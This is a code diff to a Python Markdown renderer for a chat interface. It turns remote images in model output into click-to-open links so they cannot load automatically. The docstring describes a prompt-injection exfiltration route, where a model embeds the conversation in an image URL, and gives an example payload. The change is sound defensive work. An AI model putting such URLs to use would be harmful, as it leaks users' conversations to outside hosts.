@@ -16,12 +16,23 @@ plain CommonMark, each so that no character the model wrote is lost:
 
 Fenced and indented code is highlighted here with Pygments (classes only, the
 colours are in static/css/code.css), so the page needs no highlighter.
+
+Model output is untrusted, and an image loads by itself: a prompt-injected model
+could put the conversation in an image URL (`![x](https://host/p.png?q=…)`). So an
+image — inline, reference-style, in a table — renders as a link naming its host,
+which opens the image in a new tab only when clicked; the page's
+Content-Security-Policy (img-src 'self' data:) backs this up. A user who turned on
+"load remote images" (Preferences) gets real <img> tags, and pages served to them
+allow https: images (security.csp); `REMOTE_IMAGES` carries that choice to the
+renderer for the current request or socket.
 """
 
 from __future__ import annotations
 
 import re
+from contextvars import ContextVar
 from typing import Any
+from urllib.parse import urlsplit
 
 import nh3
 from markdown_it import MarkdownIt
@@ -32,13 +43,16 @@ from pygments.formatters import HtmlFormatter
 from pygments.lexers import get_lexer_by_name
 from pygments.util import ClassNotFound
 
+REMOTE_IMAGES: ContextVar[bool] = ContextVar("remote_images", default=False)
+
 _TAGS = {
     "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote", "ul", "ol", "li",
     "h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td", "img",
     "span", "div",
 }  # fmt: skip
 _ATTRIBUTES = {
-    "a": {"href", "title"}, "img": {"src", "alt", "title"}, "code": {"class"}, "th": {"style"}, "td": {"style"},
+    "a": {"href", "title", "class", "target"}, "img": {"src", "alt", "title"}, "code": {"class"},
+    "th": {"style"}, "td": {"style"},
     "span": {"class"}, "div": {"class", "data-lang"}, "pre": {"class"},
 }  # fmt: skip
 _WORDISH = re.compile(r"[\w)\]]")
@@ -143,16 +157,40 @@ def _build() -> MarkdownIt:
     return md
 
 
+def _image_as_link(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = "".join(child.content for child in (token.children or []))
+    if not src:
+        return _escape(alt)
+    if src.startswith("data:image/"):  # embedded: it loads nothing
+        return str(self.image(tokens, idx, options, env))
+    try:
+        host = urlsplit(src).hostname or "this site"
+    except ValueError:
+        host = "an unknown host"
+    return (
+        f'<a class="remote-image" href="{_escape(src)}" target="_blank" title="Open the image from {_escape(host)}">'
+        f'<span class="remote-image-host">Image from {_escape(host)}</span>'
+        + (f": {_escape(alt)}" if alt else "")
+        + "</a>"
+    )
+
+
 _md = _build()
+_md_images_off = _build()
+_md_images_off.add_render_rule("image", _image_as_link)
 
 
-def render(text: str) -> str:
+def render(text: str, *, remote_images: bool | None = None) -> str:
     if not text:
         return ""
+    load = REMOTE_IMAGES.get() if remote_images is None else remote_images
     return nh3.clean(
-        _md.render(text),
+        (_md if load else _md_images_off).render(text),
         tags=_TAGS,
         attributes=_ATTRIBUTES,
-        url_schemes={"http", "https", "mailto"},
+        # data: only ever survives markdown-it as data:image/… (its validateLink).
+        url_schemes={"http", "https", "mailto", "data"},
         link_rel="noopener noreferrer nofollow",
     )
